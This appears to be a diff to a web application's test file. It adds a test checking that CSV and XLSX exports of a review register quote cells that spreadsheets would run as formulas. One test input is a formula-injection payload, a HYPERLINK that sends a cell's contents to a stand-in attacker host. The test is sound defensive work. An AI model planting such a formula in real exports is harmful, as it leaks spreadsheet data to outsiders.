@@ -433,3 +433,20 @@ def test_a_damaged_version_is_refused_as_stale(client_for, manager, board):
     review = ReviewFactory(ref="RR-2025-07", notified_on=date(2025, 6, 2))
     response = client_for(manager).post(url("review-edit", board, review.ref), review_data(version="x"))
     assert "Someone else saved this review" in response.content.decode()
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_the_register_export_quotes_text_a_spreadsheet_would_run(client_for, manager, board, fmt):
+    from openpyxl import load_workbook
+
+    hyperlink = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
+    ReviewFactory(ref="+RR-1", title=hyperlink, group=GroupFactory(name="@SUM(A1:A9)"))
+    response = client_for(manager).get(url("review-list", board), {"_export": fmt})
+    if fmt == "csv":
+        cells = [cell for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig"))) for cell in row]
+    else:
+        book = load_workbook(io.BytesIO(response.content))
+        cells = [cell.value for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+    texts = [cell for cell in cells if isinstance(cell, str)]
+    assert f"'{hyperlink}" in texts and "'+RR-1" in texts and "'@SUM(A1:A9)" in texts
+    assert not [text for text in texts if text.startswith(("=", "+", "@"))]
